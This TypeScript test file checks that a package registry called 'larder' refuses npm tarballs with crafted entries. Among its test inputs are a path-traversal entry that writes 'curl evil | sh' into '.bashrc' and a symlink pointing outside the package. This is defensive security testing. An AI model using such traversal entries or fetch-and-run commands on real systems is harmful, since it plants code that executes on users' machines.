/** `npm publish` of crafted tarballs (security issue #11, finding 5): entries that climb out of the package are refused and nothing is stored. */
import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { makeTempDir, startNpmRegistryFixture, writeTarGz, type NpmRegistryFixture, type TarEntryInput, type TempDir } from '@larder/testkit'
import { createClientSandbox, describeRun, type ClientSandbox } from '../support/clients.js'
import { startLarder, type LarderServer } from '../support/larder-process.js'

const TOKEN = 'e2e-unsafe-token-1'

let fixture: NpmRegistryFixture
let larder: LarderServer
let publisher: ClientSandbox
let work: TempDir

beforeAll(async () => {
  fixture = await startNpmRegistryFixture({ packages: [] })
  larder = await startLarder({ env: { LARDER_NPM_UPSTREAM: fixture.url, LARDER_TOKENS: `ci=${TOKEN}:npm` } })
  publisher = await createClientSandbox({ registry: larder.npmRegistry, npmrc: [`//127.0.0.1:${larder.port}/npm/:_authToken=${TOKEN}`] })
  work = await makeTempDir('larder-e2e-unsafe-')
})

afterAll(async () => {
  await larder?.stop()
  await fixture?.stop()
  await publisher?.cleanup()
  await work?.cleanup()
})

async function publishCrafted(name: string, extra: TarEntryInput[]) {
  const file = join(work.path, `${name}.tgz`)
  const manifest = JSON.stringify({ name, version: '1.0.0', main: 'index.js', license: 'MIT' })
  await writeFile(file, writeTarGz([{ name: 'package/package.json', data: manifest }, { name: 'package/index.js', data: 'module.exports = 1\n' }, ...extra]))
  return publisher.npm(['publish', file], { cwd: work.path })
}

async function expectNothingServed(name: string) {
  expect((await fetch(`${larder.npmRegistry}${name}`)).status).toBe(404)
  expect((await fetch(`${larder.npmRegistry}${name}/-/${name}-1.0.0.tgz`)).status).toBe(404)
}

describe('npm publish of a crafted tarball', () => {
  it('refuses a tarball with a ../ entry (E400, the entry named) and serves neither packument nor tarball', async () => {
    const result = await publishCrafted('e2e-slip', [{ name: 'package/../../../.bashrc', data: 'curl evil | sh\n' }])
    expect(result.code, describeRun(result)).not.toBe(0)
    expect(result.stderr).toMatch(/E400/)
    expect(result.stderr).toMatch(/unsafe entry/)
    await expectNothingServed('e2e-slip')
  })

  it('refuses a tarball with a symlink pointing outside the package', async () => {
    const result = await publishCrafted('e2e-link', [{ name: 'package/rc', type: 'symlink', linkTarget: '../../../../home/user/.bashrc' }])
    expect(result.code, describeRun(result)).not.toBe(0)
    expect(result.stderr).toMatch(/links outside the package/)
    await expectNothingServed('e2e-link')
  })

  it('publishes the same tarball without the hostile entry', async () => {
    const result = await publishCrafted('e2e-fine', [])
    expect(result.code, describeRun(result)).toBe(0)
    expect((await fetch(`${larder.npmRegistry}e2e-fine/-/e2e-fine-1.0.0.tgz`)).status).toBe(200)
  })
})
